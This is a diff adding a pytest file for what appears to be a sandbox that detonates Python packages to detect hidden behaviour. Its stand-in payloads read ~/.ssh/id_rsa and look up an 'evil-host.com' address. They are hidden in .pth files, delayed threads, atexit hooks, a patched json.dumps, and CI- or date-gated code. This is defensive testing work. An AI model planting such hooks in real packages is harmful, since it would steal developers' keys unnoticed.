@@ -1,0 +1,419 @@
+"""Green means that all of it ran: layouts of packages whose act nobody would see if less were run.
+
+The stand-ins are harmless. ACT reads a decoy key and asks for a name that tells which of them it
+was. Many kinds share a package, so that one run shows them all, and each has a harmless relative.
+"""
+
+import zipfile
+from collections.abc import Iterator
+from io import BytesIO
+from pathlib import Path
+from typing import Any
+
+import pytest
+from conftest import PROGRAM, Snakehook, Triage, make_state, open_folder, variables
+from standins import Index, wheel
+
+Report = dict[str, Any]
+Where = set[tuple[str, str | None]]
+
+
+def act_of(kind: str) -> str:
+    """Source that defines `act`: what must show wherever it runs."""
+    return (
+        "def act():\n"
+        "    import os, socket\n"
+        "    try:\n"
+        "        open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "    try:\n"
+        f"        socket.gethostbyname('act-{kind}.evil-host.com')\n"
+        "    except OSError:\n"
+        "        pass\n"
+    )
+
+
+def acting(kind: str, how: str = "act()\n") -> str:
+    return act_of(kind) + how
+
+
+# What a package has that does not act when its own module is imported on this machine, and where
+# it must show. Sleeps of a second and more are skipped.
+KINDS: dict[str, tuple[dict[str, str], str]] = {
+    "namespace": ({"space/client/__init__.py": acting("namespace")}, "import"),
+    "submodule": (
+        {"pack/__init__.py": "", "pack/proxy/server.py": acting("submodule")},
+        "import",
+    ),
+    "thread": (
+        {
+            "threads.py": acting(
+                "thread",
+                "import threading, time\n"
+                "def late():\n    time.sleep(0.5)\n    act()\n"
+                "threading.Thread(target=late, daemon=True).start()\n",
+            )
+        },
+        "import",
+    ),
+    "timer": (
+        {"timer.py": acting("timer", "import threading\nthreading.Timer(1.0, act).start()\n")},
+        "import",
+    ),
+    "executor": (
+        {
+            "pool.py": acting(
+                "executor",
+                "import concurrent.futures\nconcurrent.futures.ThreadPoolExecutor(1).submit(act)\n",
+            )
+        },
+        "import",
+    ),
+    "atexit": ({"leaves.py": acting("atexit", "import atexit\natexit.register(act)\n")}, "import"),
+    "fails": (
+        {"fails/__init__.py": "x = 1\nimport not_there_at_all\n", "fails/sub.py": acting("fails")},
+        "import",
+    ),
+    "quits": (
+        {
+            "quits/__init__.py": "",
+            "quits/first.py": "import os\nos._exit(0)\n",
+            "quits/later.py": acting("quits"),
+        },
+        "import",
+    ),
+    "shadowed": ({"wave.py": acting("shadowed")}, "import"),
+    "plug-in": ({"plug.py": "", "plugged/inner.py": acting("plug-in")}, "import"),
+    "windows": (
+        {"on_windows.py": acting("windows", "import os\nif os.name == 'nt':\n    act()\n")},
+        "import as windows",
+    ),
+    "macos": (
+        {
+            "on_macos.py": acting(
+                "macos", "import platform\nif platform.system() == 'Darwin':\n    act()\n"
+            )
+        },
+        "import as macos",
+    ),
+    "ci": (
+        {"in_ci.py": acting("ci", "import os\nif os.getenv('GITHUB_ACTIONS'):\n    act()\n")},
+        "import as ci, later",
+    ),
+    "date": (
+        {
+            "later_on.py": acting(
+                "date",
+                "import datetime\nif datetime.date.today() > datetime.date(2029, 1, 1):\n"
+                "    act()\n",
+            )
+        },
+        "import as ci, later",
+    ),
+    "sleep": ({"sleeps.py": acting("sleep", "import time\ntime.sleep(3600)\nact()\n")}, "import"),
+    "class": (
+        {
+            "made.py": acting(
+                "class", "class Client:\n    def __init__(self, url: str):\n        act()\n"
+            )
+        },
+        "call",
+    ),
+    "method": (
+        {
+            "method.py": acting(
+                "method",
+                "class Client:\n    def send(self, token: str, path: 'Path'):\n        act()\n",
+            )
+        },
+        "call",
+    ),
+    "function": (
+        {"typed.py": acting("function", "def fetch(url: str, *, retries: int):\n    act()\n")},
+        "call",
+    ),
+    "wrapped": (
+        {
+            "wrapped.py": acting(
+                "wrapped",
+                "import json\nreal = json.dumps\n"
+                "def dumps(*args, **keywords):\n    act()\n    return real(*args, **keywords)\n"
+                "json.dumps = dumps\n",
+            )
+        },
+        "call",
+    ),
+    "main": ({"pack/__main__.py": acting("main")}, "execute python -m pack"),
+    "script": (
+        {"acts_all-1.0.data/scripts/act-now": "#!python\n" + acting("script")},
+        "execute bin/act-now",
+    ),
+    "gui": ({"window.py": acting("gui", "def main():\n    act()\n")}, "execute window"),
+    "data": (
+        {
+            "acts_all-1.0.data/data/lib/python{version}/site-packages/acts.pth": "import sys;"
+            f" exec({acting('data')!r})\n"
+        },
+        "start",
+    ),
+}
+ENTRY_POINTS = "[gui_scripts]\nwindow = window:main\n[pytest11]\nplug = plugged.inner\n"
+
+# The same places in a package that does nothing but what is usual there.
+CALM = {
+    "calm/__init__.py": "import os, sys, platform, datetime, threading, logging\n"
+    "try:\n    import not_there_at_all\nexcept ImportError:\n    not_there_at_all = None\n"
+    "IS_WINDOWS = os.name == 'nt'\n"
+    "if IS_WINDOWS:\n    import ctypes, winreg\n    ctypes.windll.kernel32.GetStdHandle(-11)\n"
+    "if platform.system() == 'Darwin':\n    FOLDER = '~/Library'\n"
+    "IN_CI = bool(os.environ.get('CI'))\n"
+    "YEAR = datetime.date.today().year\n"
+    "lock = threading.Lock()\n",
+    "calm/__main__.py": "from calm.tools import main\nmain()\n",
+    "calm/plug.py": "def pytest_addoption(parser):\n    pass\n",
+    "calm/tools.py": "import argparse, atexit, time\n"
+    "def main():\n    print('calm')\n"
+    "def fetch(url: str, timeout: float = 1.0) -> str:\n    return url.upper()\n"
+    "def wait(seconds: float) -> None:\n    time.sleep(seconds)\n"
+    "class Client:\n"
+    "    def __init__(self, token: str) -> None:\n        self.token = token\n"
+    "    def get(self, path: str) -> str:\n        return path + self.token\n"
+    "    def __enter__(self): return self\n"
+    "    def __exit__(self, *error): return None\n"
+    "atexit.register(lambda: None)\n",
+    "calm/tests/test_tools.py": "from calm.tools import fetch\nassert fetch('a') == 'A'\n",
+    "calm_space/part/__init__.py": "NAME = 'part'\n",
+    "calm-1.0.data/scripts/calm-too": "#!python\nprint('calm, too')\n",
+    "calm-1.0.data/data/share/calm/readme.txt": "nothing\n",
+    "calm-1.0.dist-info/entry_points.txt": "[console_scripts]\ncalm = calm.tools:main\n"
+    "[gui_scripts]\ncalm-window = calm.tools:main\n[pytest11]\ncalm = calm.plug\n",
+}
+
+
+def acts(report: Report) -> dict[str, Where]:
+    """Where each act showed: by kind, phase and trigger."""
+    found: dict[str, Where] = {}
+    for item in report["network"]:
+        name = str(item["target"])
+        if name.startswith("act-") and name.endswith(".evil-host.com"):
+            kind = name.removeprefix("act-").removesuffix(".evil-host.com")
+            found.setdefault(kind, set()).add((item["phase"], item["trigger"]))
+    return found
+
+
+def findings(report: Report, severity: str) -> list[tuple[str, str]]:
+    return [
+        (item["rule"], item["title"]) for item in report["findings"] if item["severity"] == severity
+    ]
+
+
+def python_version(program: Snakehook) -> str:
+    """That of the jail's interpreter, as folders are called after it."""
+    (folder,) = (program.state / "python").glob("**/site-packages")
+    return folder.parent.name.removeprefix("python")
+
+
+def serve_acts(index: Index, version: str) -> None:
+    """A package with all of KINDS."""
+    files = {"acts_all-1.0.dist-info/entry_points.txt": ENTRY_POINTS}
+    for kind, _ in KINDS.values():
+        files |= {path.replace("{version}", version): text for path, text in kind.items()}
+    index.add_wheel("acts-all", "1.0", files)
+
+
+@pytest.fixture(scope="module")
+def shared_index() -> Iterator[Index]:
+    with Index() as index:
+        index.add_wheel("pip", "1.0", {"pip_stand_in.py": ""})
+        yield index
+
+
+@pytest.fixture(scope="module")
+def whole_report(jail: None, shared_index: Index, jail_python_cache: Path) -> Iterator[Report]:
+    """The report of the package with all kinds, detonated once."""
+    with open_folder("triggers") as home:
+        state = make_state(home, jail_python_cache)
+        program = Snakehook(PROGRAM, variables(state, shared_index))
+        program.run("check")
+        serve_acts(shared_index, python_version(program))
+        yield program.triage("acts-all", "--mode", "detonate")[1]
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_the_act_shows(whole_report: Report, kind: str) -> None:
+    wanted = KINDS[kind][1]
+    shown = acts(whole_report).get(kind, set())
+    titles = {f"{phase} {trigger}" if trigger else phase for phase, trigger in shown}
+    assert any(title.startswith(wanted) for title in titles), f"{kind} showed in {titles}"
+
+
+def test_what_reads_the_key_is_high_in_each_phase(whole_report: Report) -> None:
+    assert whole_report["verdict"] == "high"
+    read = {item["phase"] for item in whole_report["findings"] if item["rule"] == "secret.read"}
+    assert {"start", "import", "call", "execute"} <= read
+
+
+def test_a_condition_is_told_with_its_line(whole_report: Report) -> None:
+    gates = {
+        item["title"].partition("(")[2].partition(")")[0]: item
+        for item in whole_report["findings"]
+        if item["rule"] == "code.gated"
+    }
+    assert {"system", "CI", "date"} <= set(gates)
+    assert {item["severity"] for item in gates.values()} == {"info"}
+    assert gates["CI"]["at"].endswith("in_ci.py:12")
+
+
+def test_a_long_sleep_is_skipped_and_told(whole_report: Report) -> None:
+    told = [title for rule, title in findings(whole_report, "info") if rule == "limit.hit"]
+    assert any("3600" in title or "3599" in title for title in told), told
+
+
+def test_a_replaced_function_is_told_with_its_place(whole_report: Report) -> None:
+    (item,) = [item for item in whole_report["findings"] if "json.dumps" in item["title"]]
+    assert (item["severity"], item["rule"]) == ("medium", "code.dynamic")
+    assert item["at"].endswith("/wrapped.py:13")
+
+
+def test_that_the_library_s_module_comes_first_is_told(whole_report: Report) -> None:
+    assert any("wave is found in /" in note for note in whole_report["coverage"]["notes"])
+
+
+def test_the_harmless_relatives_are_clean(triage: Triage, index: Index) -> None:
+    index.add_wheel("calm", "1.0", CALM)
+    code, report, _ = triage("calm", "--mode", "detonate")
+    assert findings(report, "high") == findings(report, "medium") == []
+    assert (code, report["outcome"], report["verdict"]) == (0, "ok", "clean")
+    titles = {(phase["name"], phase["trigger"]) for phase in report["phases"]}
+    assert {
+        ("import", "calm"),
+        ("import", "calm_space.part"),
+        ("import", "all modules"),
+        ("call", None),
+        ("call", "tests"),
+        ("execute", "calm"),
+        ("execute", "calm-window"),
+        ("execute", "bin/calm-too"),
+        ("execute", "python -m calm"),
+    } <= titles
+
+
+def test_as_an_ordinary_user_the_same_shows(ordinary: Snakehook, index: Index) -> None:
+    ordinary.run("check")
+    serve_acts(index, python_version(ordinary))
+    _, report, _ = ordinary.triage("acts-all", "--mode", "detonate")
+    assert set(KINDS) <= set(acts(report))
+
+
+def test_what_goes_on_for_ever_acts_and_is_told(triage: Triage, index: Index) -> None:
+    source = acting(
+        "loop",
+        "import threading, time\n"
+        "def loop():\n    while True:\n        threading.Event().wait(1)\n        act()\n"
+        "threading.Thread(target=loop, daemon=True).start()\n",
+    )
+    index.add_wheel("loops", "1.0", {"loops.py": source})
+    _, report, _ = triage("loops", "--mode", "import")
+    assert acts(report)["loop"]
+    assert ("limit.hit") in {rule for rule, _ in findings(report, "medium")}
+    assert any("left at work" in item for item in report["coverage"]["not_run"])
+
+
+def test_a_module_is_imported_however_long_the_record(triage: Triage, index: Index) -> None:
+    files = {f"junk{number:05}.py": "" for number in range(5200)}
+    files |= {"real/__init__.py": "", "real/last.py": acting("long")}
+    index.add_wheel("zz-long", "1.0", files)
+    _, report, _ = triage("zz-long", "--mode", "import")
+    assert acts(report)["long"]
+
+
+def test_a_folder_of_metadata_may_be_spelled_otherwise(triage: Triage, index: Index) -> None:
+    """pip lands such a wheel, and fails only afterwards."""
+    name, data = wheel("odd-name", "1.0", {"odd.py": acting("hyphen")})
+    renamed = BytesIO()
+    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(renamed, "w") as new:
+        for member in old.infolist():
+            text = old.read(member).replace(b"odd_name-1.0.dist-info", b"odd-name-1.0.dist-info")
+            new.writestr(member.filename.replace("odd_name-1.0.d", "odd-name-1.0.d"), text)
+    index.add_file("odd-name", name, renamed.getvalue())
+    _, report, _ = triage("odd-name", "--mode", "import")
+    assert acts(report)["hyphen"]
+
+
+def test_what_is_missed_is_installed_and_asked_again(triage: Triage, index: Index) -> None:
+    source = act_of("missed") + (
+        "try:\n    import helper_lib\nexcept ImportError:\n    pass\nelse:\n    act()\n"
+        "try:\n    import nobody_has_it\nexcept ImportError:\n    pass\n"
+    )
+    index.add_wheel("asks", "1.0", {"asks.py": source})
+    index.add_wheel("helper-lib", "2.0", {"helper_lib.py": "x = 1\n"})
+    _, report, _ = triage("asks", "--mode", "import")
+    assert {phase for phase, _ in acts(report)["missed"]} == {"import"}
+    notes = " ".join(report["coverage"]["notes"])
+    assert "installed later: helper-lib" in notes
+    assert "not there: nobody_has_it" in notes
+
+
+def test_what_is_installed_later_is_not_the_package_s_doing(triage: Triage, index: Index) -> None:
+    """Harmless: it asks for what others have, which brings files and a .pth file of its own."""
+    source = "try:\n    import helper_lib\nexcept ImportError:\n    helper_lib = None\n"
+    index.add_wheel("asks", "1.0", {"asks.py": source})
+    index.add_wheel("asks", "2.0", {"asks.py": "raise SystemExit('another version')\n"})
+    files = {"helper_lib.py": "x = 1\n", "helper.pth": "import helper_lib\n"}
+    index.add_wheel("helper-lib", "2.0", files, requires=["asks"])
+    _, report, _ = triage("asks", "--mode", "import")
+    assert ("install", "of helper-lib", "ok") in [
+        (phase["name"], phase["trigger"], phase["outcome"]) for phase in report["phases"]
+    ]
+    assert (report["verdict"], findings(report, "medium")) == ("clean", [])
+
+
+def test_what_is_missed_and_fails_to_install_is_no_failure(triage: Triage, index: Index) -> None:
+    source = "try:\n    import helper_lib\nexcept ImportError:\n    helper_lib = None\n"
+    index.add_wheel("asks", "1.0", {"asks.py": source})
+    index.add_wheel("helper-lib", "2.0", {}, requires=["nobody-has-it"])
+    code, report, _ = triage("asks", "--mode", "import")
+    assert (code, report["outcome"], report["verdict"]) == (0, "ok", "clean")
+
+
+def test_a_dependency_s_own_modules_are_imported(triage: Triage, index: Index) -> None:
+    index.add_wheel("front", "1.0", {"front.py": ""}, requires=["payload-lib"])
+    index.add_wheel("payload-lib", "1.0", {"payload_lib/__init__.py": acting("dependency")})
+    _, report, _ = triage("front", "--mode", "import")
+    assert acts(report)["dependency"] == {("import", "dependencies")}
+
+
+@pytest.mark.parametrize("is_caught", [True, False])
+def test_the_limit_of_cpu_time_is_named(triage: Triage, index: Index, is_caught: bool) -> None:
+    """A package that catches the signal is killed a second later; both are timeouts."""
+    catch = "import signal\nsignal.signal(signal.SIGXCPU, signal.SIG_IGN)\n" if is_caught else ""
+    index.add_wheel("burns", "1.0", {"burns.py": f"{catch}while True: pass\n"})
+    arguments = ("--mode", "execute_module", "--module-name", "burns")
+    code, report, _ = triage("burns", *arguments, RLIMIT_CPU_SEC=2)
+    assert (code, report["outcome"]) == (4, "timeout")
+    assert "RLIMIT_CPU_SEC" in report["reason"]
+
+
+def test_who_kills_itself_is_no_timeout(triage: Triage, index: Index) -> None:
+    index.add_wheel("dies", "1.0", {"dies.py": "import os\nos.kill(os.getpid(), 9)\n"})
+    _, report, _ = triage("dies", "--mode", "execute_module", "--module-name", "dies")
+    assert report["outcome"] == "failed"
+
+
+def test_programs_beyond_the_bound_run_in_one_jail(triage: Triage, index: Index) -> None:
+    """Each on its own feet: one that never ends costs no other's turn."""
+    scripts = {f"s{number:02}": "many:calm" for number in range(8)}
+    scripts |= {"t-endless": "many:endless", "u-acts": "many:main"}
+    source = acting(
+        "script17",
+        "import threading\n"
+        "def calm():\n    pass\n"
+        "def endless():\n    threading.Event().wait()\n"
+        "def main():\n    act()\n",
+    )
+    index.add_wheel("many", "1.0", {"many.py": source}, console_scripts=scripts)
+    _, report, _ = triage("many", "--mode", "detonate")
+    assert ("execute", "2 more programs") in acts(report)["script17"]
+    told = [title for rule, title in findings(report, "info") if rule == "limit.hit"]
+    assert any("endless" in title for title in told), told
